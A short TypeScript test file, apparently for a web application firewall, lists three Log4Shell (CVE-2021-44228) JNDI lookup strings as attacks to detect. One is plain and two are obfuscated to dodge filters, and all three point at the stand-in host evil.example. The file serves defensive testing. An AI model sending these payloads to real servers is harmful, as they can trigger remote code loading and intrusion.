import { describeWafAttacks } from '../support/waf-attacks.ts'

describeWafAttacks('Log4Shell and its disguises (CVE-2021-44228)', 'rce', [
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
  '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
])
